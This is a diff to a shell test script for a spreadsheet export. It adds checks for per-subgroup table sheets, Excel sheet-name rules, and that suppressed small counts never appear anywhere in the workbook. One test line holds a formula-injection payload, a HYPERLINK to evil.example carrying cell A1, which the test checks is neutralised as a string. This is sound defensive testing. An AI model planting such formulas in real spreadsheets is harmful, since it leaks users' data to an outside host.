@@ -42,7 +42,7 @@ for i, name in enumerate(names, 1):
             width = max(cells) if cells else 0
             f.write("\t".join(cells.get(k, "") for k in range(1, width + 1)) + "\n")
 open(os.path.join(out, "formulas"), "w").write("%d\n" % formulas)
-print(" ".join(names))
+print("|".join(names))
 PY
 }
 
@@ -59,8 +59,8 @@ check "it is a zip with a workbook in it" python3 -m zipfile -t "$OUT"
 check "no temporary file is left beside it" test "$(ls "$T/out")" = data.xlsx
 check "written 0600" test "$(stat -c %a "$OUT")" = 600
 SHEETS=$(xlsx_dump "$OUT" "$T/x")
-check "sheets: About Scores Findings Recommendations Subgroups Agreement" \
-	test "$SHEETS" = "About Scores Findings Recommendations Subgroups Agreement"
+check "sheets: About Scores Findings Recommendations Subgroups Agreement, then the tables" \
+	test "$(printf %s "$SHEETS" | cut -d'|' -f1-6)" = "About|Scores|Findings|Recommendations|Subgroups|Agreement"
 check "no formula cell anywhere" test "$(cat "$T/x/formulas")" = 0
 check "the hostile finding is a string with one guard" \
 	grep -qF "	'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")	" "$T/x/Findings.tsv"
@@ -78,11 +78,31 @@ check "Scores holds every consensus level and nothing else" test "$EXPECT" = "$G
 check "with its level name" grep -q "	[1-4]	\(Beginning\|Developing\|Proficient\|Exemplary\|[A-Z][a-z]*\)" "$T/x/Scores.tsv"
 check "no team or self column" sh -c "! head -1 '$T/x/Scores.tsv' | grep -qi 'team\|self\|median'"
 
-# Subgroups: every withheld count is "*", and its raw count is nowhere in its row.
+# One sheet per subgroup table: every site's newest year, every metric and dimension,
+# flagged or not; names Excel takes (31 characters at most, unique, none of []:*?/\).
+TABLES=$(sql "$DB" "SELECT count(*) FROM (SELECT DISTINCT r.site_id, r.year, r.metric_id, r.dimension FROM subgroup_row r
+	WHERE r.year = (SELECT max(x.year) FROM subgroup_row x WHERE x.site_id = r.site_id))")
+python3 - "$T/x/names" "$SHEETS" <<'PY'
+import sys
+names = sys.argv[2].split("|")[6:]
+open(sys.argv[1], "w").write("%d %d %d\n" % (len(names), len({n.lower() for n in names}),
+	sum(1 for n in names if len(n) > 31 or any(c in n for c in "[]:*?/\\"))))
+PY
+check "a sheet for each of the $TABLES tables" test "$(cat "$T/x/names")" = "$TABLES $TABLES 0"
+check "a table with no flag has its sheet" test -f "$T/x/DO 2024-25 grad race.tsv"
+check "each table sheet holds its groups and all students" \
+	sh -c "tail -n 1 '$T/x/DO 2024-25 grad race.tsv' | grep -q '^DO	2024-25	grad	.*	All students	'"
+: >"$T/x/tables.tsv"
+for f in "$T"/x/*" "*.tsv; do tail -n +2 "$f" >>"$T/x/tables.tsv"; done
+check "the table sheets hold every row the Subgroups sheet does" \
+	sh -c "tail -n +2 '$T/x/Subgroups.tsv' | sort -u >'$T/a'; sort -u '$T/x/tables.tsv' >'$T/b'; comm -23 '$T/a' '$T/b' | wc -l | grep -qx 0"
+
+# Subgroups and the table sheets: every withheld count is "*", and its raw count is nowhere in its row.
 WITHHELD=$(awk -F'\t' 'NR > 1 && $8 == "*"' "$T/x/Subgroups.tsv" | wc -l)
 check "some counts are withheld in the sample's tables" test "$WITHHELD" -gt 0
 LEAKS=0
-awk -F'\t' 'NR > 1 && $8 == "*" && $6 != "All students" { print $1 "\t" $2 "\t" $3 "\t" $6 }' "$T/x/Subgroups.tsv" >"$T/hidden"
+cat "$T/x/Subgroups.tsv" "$T/x/tables.tsv" >"$T/x/every.tsv"
+awk -F'\t' 'NR > 1 && $8 == "*" && $6 != "All students" { print $1 "\t" $2 "\t" $3 "\t" $6 }' "$T/x/every.tsv" | sort -u >"$T/hidden"
 while IFS='	' read -r site year metric grp; do
 	raw=$(sql "$DB" "SELECT r.count FROM subgroup_row r JOIN site s ON s.id = r.site_id JOIN metric m ON m.id = r.metric_id
 		WHERE s.code = '$site' AND r.year = '$year' AND m.code = '$metric' AND r.grp = '$(printf %s "$grp" | sed "s/'/''/g")'")
@@ -90,11 +110,11 @@ while IFS='	' read -r site year metric grp; do
 	for n in $raw; do
 		awk -F'\t' -v s="$site" -v y="$year" -v m="$metric" -v g="$grp" -v n="$n" \
 			'$1 == s && $2 == y && $3 == m && $6 == g { for (i = 8; i <= NF; i++) if ($i == n) bad = 1 } END { exit !bad }' \
-			"$T/x/Subgroups.tsv" && LEAKS=$((LEAKS + 1))
+			"$T/x/every.tsv" && LEAKS=$((LEAKS + 1))
 	done
 done <"$T/hidden"
 check "no withheld count is in the workbook (checked $WITHHELD rows)" test "$LEAKS" = 0
-MIN=$(awk -F'\t' 'NR > 1 && $8 != "*" && $8 + 0 > 0 && $8 + 0 < 10' "$T/x/Subgroups.tsv" | wc -l)
+MIN=$(awk -F'\t' 'NR > 1 && $8 != "*" && $8 + 0 > 0 && $8 + 0 < 10' "$T/x/every.tsv" | wc -l)
 check "no shown count from 1 to min_display - 1" test "$MIN" = 0
 check "agreement for the whole review and per domain" grep -q "^all	All domains	" "$T/x/Agreement.tsv"
 
